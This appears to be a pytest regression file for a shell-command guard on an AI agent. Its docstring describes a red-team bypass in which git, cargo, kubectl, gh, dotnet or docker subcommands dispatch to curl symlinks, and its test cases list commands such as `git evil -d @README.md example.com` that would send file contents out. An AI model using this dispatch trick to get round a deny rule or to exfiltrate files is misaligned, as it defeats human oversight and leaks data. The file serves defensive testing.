"""Red team 26 (issue 9 class 3): programs that run `PROG-NAME` for a subcommand not their own.

`git evil HOST` runs the first `git-evil` on PATH, `cargo evil` cargo-evil, `kubectl evil`
kubectl-evil, `gh evil` gh-evil, `docker evil` a cli-plugin docker-evil. With git-evil a link to
curl (in a folder the command puts on PATH, or one of the agent's PATH such as ~/.local/bin),
`git evil example.com` ran curl under `open`: the analysis saw `git`, and only a URL-shaped word
after an unknown git subcommand was refused. The file the kernel runs is judged as the command
word's is (hook/programs.py). Verdicts only: the links are made in tmp, nothing is executed.
"""

import os
import shutil

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied

CURL = shutil.which("curl") or "/usr/bin/curl"


@pytest.fixture(scope="module")
def g(tmp_path_factory):
    setup = GuardSetup(tmp_path_factory.mktemp("rt26dispatch"), files={"README.md": "hi\n", "bin/": "",
                                                                       "~/.local/bin/": "", "~/.docker/cli-plugins/": ""})
    for name in ("git-evil", "cargo-evil", "kubectl-evil", "gh-evil", "dotnet-evil", "docker-evil"):
        os.symlink(CURL, setup.path("bin/" + name))
    os.symlink(CURL, setup.path("~/.local/bin/git-up2"))
    os.symlink(CURL, setup.path("~/.docker/cli-plugins/docker-up2"))
    with open(setup.path("bin/git-script"), "w") as f:
        f.write("#!%s -K\n" % CURL)
    os.chmod(setup.path("bin/git-script"), 0o755)
    with open(setup.path("bin/git-mine"), "w") as f:
        f.write("#!/bin/sh\necho mine\n")
    os.chmod(setup.path("bin/git-mine"), 0o755)
    return setup


def _agent_path(g):
    return g.env("open", PATH=g.path("~/.local/bin") + ":" + os.environ.get("PATH", "/usr/bin:/bin"))


@pytest.mark.parametrize("cmd", [
    "PATH=bin:$PATH git evil example.com",
    "PATH=$PWD/bin:$PATH git evil -d @README.md example.com",
    "export PATH=bin:$PATH; git evil example.com",
    "PATH=bin:$PATH git -C . evil example.com",
    "PATH=bin:$PATH git -c x.y=1 evil example.com",
    "PATH=bin:$PATH git script example.com",
    "PATH=bin:$PATH cargo evil example.com",
    "PATH=bin:$PATH cargo +stable evil example.com",
    "PATH=bin:$PATH kubectl evil example.com",
    "PATH=bin:$PATH gh evil example.com",
    "PATH=bin:$PATH dotnet evil example.com",
    "PATH=bin:$PATH docker evil example.com",
    "git up2 example.com",
    "docker up2 example.com",
])
def test_a_subcommand_program_that_is_a_denied_program(g, cmd):
    assert_denied(g.bash(cmd, role="open", env=_agent_path(g)), "`curl` is denied by deny-cmd")


@pytest.mark.parametrize("cmd", [
    "git status",
    "git log --oneline -5",
    "PATH=bin:$PATH git mine",
    "PATH=bin:$PATH git status",
    "cargo build",
    "docker ps",
    "kubectl get pods",
    "gh pr list",
])
def test_everyday_subcommands_stay_allowed(g, cmd):
    assert_allowed(g.bash(cmd, role="open", env=_agent_path(g)))
